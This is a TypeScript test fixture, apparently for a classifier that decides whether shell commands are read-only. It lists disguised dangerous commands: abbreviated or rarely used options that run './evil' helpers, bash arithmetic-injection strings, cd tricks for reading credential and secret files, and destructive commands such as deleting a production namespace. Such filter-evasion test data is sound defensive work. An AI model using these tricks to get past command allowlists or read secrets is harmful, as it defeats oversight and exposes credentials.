/** Options that are seldom used, shortened, or stand where a value is expected: by each of them a reading command does more (A1). */
import { lines } from './lines.fixture.ts';

export const seldomOptions: Readonly<Record<string, readonly string[]>> = {
  'shortened options': lines(String.raw`
    sort --o=out in
    sort --outp out in
    sort --compress-prog=./evil in
    sort --comp=./evil in
    date --se=2020-01-01
    git diff --outp=x
    git diff --outpu x
    git log --outp=x
    git grep --open=./evil x
    git diff --ext
    git cat-file --textc HEAD:x
    git fetch --upload-p=./evil .
    journalctl --vacuum-s=1
    dmesg --cle
    info -f ./evil.info --outp=out
    diff3 --diff-p=./evil a b c
    sdiff --out=x a b
    shuf --out=x a
    iconv --outp=x a
    ag --page=./evil x
    less --log=x f
    less --LOG=x f
    man --pag=./evil ls
    ss --kil dst 1.2.3.4
    rm --rec dir
  `),
  'seldom used options': lines(String.raw`
    date -us 2020-01-01
    date 010100002030
    yq -s .name file.yml
    yq e -s .name file.yml
    yq --security-enable-system-operator '.a = system("touch x")' f
    tree --fromfile list
    tree -ao out
    journalctl --cursor-file=x
    diff3 --diff-program=./evil a b c
    sdiff --diff-program=./evil a b
    iconv -co x a
    getent hosts secret.evil.example
    lastlog -C -u x
    zstdcat -o out x.zst
    zstdcat --rm x.zst
    docker compose config -o x
    docker compose config --output=x
    npm help --viewer=browser --browser=./evil npm
    pip list --log x
    go env --w GOFLAGS=-toolexec=./x
    dnf list --setopt=pluginpath=/tmp/evil
    dnf list -c ./evil.conf
    apt show -qo APT::X=y z
    uv tree
    bundle list
    composer show
    ifconfig eth0 down
    ip link s eth0 down
    ip l s eth0 down
    tar tIf ./evil x.tar
    tar tFf ./evil x.tar
    tar tf evil.example:/x
    tar -tf evil.example:/x
    env -C /run cat secrets/x
    env --chdir=/run cat secrets/x
    printf '%b\0' '/home/me/\0056ssh/id_rsa' | sort --files0-from=-
    x=-K; ss $x dst 1.2.3.4
    x=terminate-session; loginctl $x 1
    git config edit
    git help -w log
    git clone --template=./evil x
    git clone --config core.fsmonitor=./evil x
  `),
  'values that look like verbs or options': lines(String.raw`
    git tag v1 -m --list
    git tag -a v1 -m --contains
    git clean -fd -e -n
    git clean -fen
    git clean -n --no-dry-run -f
    git clean --dry-run --no-dry-run -f
    git stash -m list
    git stash -m show
    git notes --ref list add -m x
    docker compose -p ps up -d
    docker compose -p config up
    docker compose --profile ps up
    npm config --viewer get set script-shell /tmp/x
  `),
  'verbose, not version': lines(String.raw`
    pytest -v
    ninja -v
    just -v
    tox -v
    nox -v
    task -v
    rake -v
    ant -v
    mypy -v
    echo 'import os' | python3 -v
    echo '!touch x' | ex -v
    echo '!touch x' | ex -V
    tmux -v
    kubectl -v 1 delete ns prod
    apt -V install x
    systemctl -v restart nginx
  `),
  'lists that run what a project says': lines(String.raw`
    yarn why x
    yarn list
    pnpm ls
    pnpm why x
  `),
  'values that bash counts with': lines(String.raw`
    x='a[$'; x+='(touch y)]'; echo $((x))
    x=$(printf 'a[$\x28touch y)]'); echo $((x))
    x=$(printf 'a[$\x28touch y)]'); let y=x
    x=$(printf 'a[$\x28touch y)]'); declare -i y=x
    x=$(printf 'a[$\x28touch y)]'); declare -i y; y=x
    x=$(printf 'a[$\x28touch y)]'); [ -v "$x" ]
    x=$(printf 'a[$\x28touch y)]'); a=1; a[x]=1
    printf -v x 'a[$\x28touch y)]'; echo $((x))
    read x <<< 'a[$''(touch y)]'; echo $((x))
    f() { echo $(( $1 )); }; f 1
    while read x; do echo $((x)); done < f
    x=$(cat f); y=x; echo $((y))
    for x in $(cat f); do echo $((x)); done
    read -a x < f; echo $((x))
    mapfile x < f; echo $((x[0]))
    export x=$(cat f); echo $((x))
  `),
  'places after a cd': lines(String.raw`
    cd /home/me/.config && cat gh/hosts.yml
    cd /home/me/.config/gh && cat hosts.yml
    cd ~/.config; cd gh; cat hosts.yml
    cd; cat .config/gh/hosts.yml
    pushd /run; cat secrets/db
    cd -P /run && cat secrets/db
    cd /dev; cat sda
    cd / && cat run/secrets/x
    cd /run; cat < secrets/x
    cd a; cd b; cd c; cd d; cat x
  `),
  'variables of programs': lines(String.raw`
    LESS='+!touch x'; less f
    export LESS='+!touch x'; less f
    RIPGREP_CONFIG_PATH=./rc; rg x
  `),
};
